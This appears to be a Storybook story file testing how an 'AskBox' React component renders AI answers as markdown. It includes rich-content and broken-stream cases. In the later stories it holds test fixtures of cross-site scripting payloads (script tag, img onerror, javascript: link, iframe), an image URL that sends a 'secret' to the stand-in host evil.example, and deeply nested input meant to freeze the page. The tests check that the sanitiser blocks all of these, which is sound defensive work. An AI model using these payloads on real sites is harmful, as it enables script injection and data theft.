import { ForewarmError } from '@forewarm/core';
import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import { renderMarkdown } from '../markdown.js';
import { answered } from '../testing/story.js';
import { AskBox } from './AskBox.js';

const meta = {
  title: 'Components/Ask box/Answers',
  component: AskBox,
  args: { prefix: { id: 'docs' }, renderAnswer: renderMarkdown },
} satisfies Meta<typeof AskBox>;

export default meta;
type Story = StoryObj<typeof meta>;

const ask: NonNullable<Story['play']> = answered('How?');

const RICH = `## Splitting a page

When a page is **full**, \`balance_nonroot()\` takes it and its neighbours:

1. Read the cells of all of them.
2. Spread them evenly over new pages.

   - The middle keys go up to the parent.
3. Free what is left.

\`\`\`c
static int balance_nonroot(MemPage *pParent, int iParentIdx, u8 *aOvflSpace, int isRoot, int bBulk) {
  BtShared *pBt;               /* The whole database, whose name is long enough that this line has to scroll */
  return SQLITE_OK;
}
\`\`\`

| Page | Cells | Free bytes | Right-most child | Overflow | Journal offset |
|------|------:|-----------:|------------------|----------|---------------:|
| 12   |   200 |         12 | 13               | none     |      1,048,576 |
| 13   |    87 |      2,310 | none             | none     |      1,052,672 |

> A tree grows at its root, never at its leaves.

More in [the documentation](https://sqlite.org/fileformat.html).`;

/** What models like to write: headings, lists, code to copy, a table that scrolls. */
export const Rich: Story = { parameters: { forewarm: { stage: { answer: RICH } } }, play: ask };

/** Cut in the middle of code: shows what arrived. */
export const CutInCode: Story = {
  parameters: {
    forewarm: {
      stage: { answer: RICH.slice(0, 420), end: new ForewarmError('stream-cut', 'The connection broke off.') },
    },
  },
  async play({ canvasElement }) {
    const canvas = within(canvasElement);
    await userEvent.type(canvas.getByRole('textbox'), 'How?{Enter}');
    await waitFor(() => expect(canvas.getByRole('button', { name: 'Copy' })).toBeVisible());
    await waitFor(() => expect(canvas.getByText('The connection broke off.')).toBeVisible());
  },
};

const HOSTILE = `Before. <script>document.title = 'hacked'</script> <img src=x onerror="document.title = 'hacked'">

[A link](javascript:document.title='hacked') and ![a picture](https://evil.example/?secret=1).

<style>body { display: none }</style><iframe src="https://evil.example"></iframe>

After.`;

/** An answer that attacks the page: no script, style or frame runs, and nothing is fetched. */
export const Hostile: Story = {
  parameters: { forewarm: { stage: { answer: HOSTILE } } },
  async play(context) {
    await ask(context);
    const answer = within(context.canvasElement).getByRole('region', { name: 'Answer' });
    await expect(answer.querySelector('script, style, iframe, img')).toBeNull();
    await expect(answer).toHaveTextContent(/After\.$/);
    await expect(document.title).not.toBe('hacked');
  },
};

/** The same as plain text, the default. */
export const HostileAsText: Story = {
  render: (args) => <AskBox {...args} renderAnswer={undefined} />,
  parameters: { forewarm: { stage: { answer: HOSTILE } } },
  async play(context) {
    await ask(context);
    const answer = within(context.canvasElement).getByRole('region', { name: 'Answer' });
    await expect(answer.textContent).toBe(HOSTILE);
  },
};

const NESTED = `A reader would take seconds for this:\n\n${'- '.repeat(2_000)}deep\n\nAnd **this** is drawn as ever.`;

/**
 * An answer made to freeze the page: the piece that would take seconds to read stays plain text.
 */
export const HostileNesting: Story = {
  parameters: { forewarm: { stage: { answer: NESTED } } },
  async play(context) {
    await ask(context);
    const answer = within(context.canvasElement).getByRole('region', { name: 'Answer' });
    await expect(answer.querySelector('li')).toBeNull();
    await expect(answer).toHaveTextContent(/- - - deep/);
    await expect(answer.querySelector('strong')).toHaveTextContent('this');
  },
};
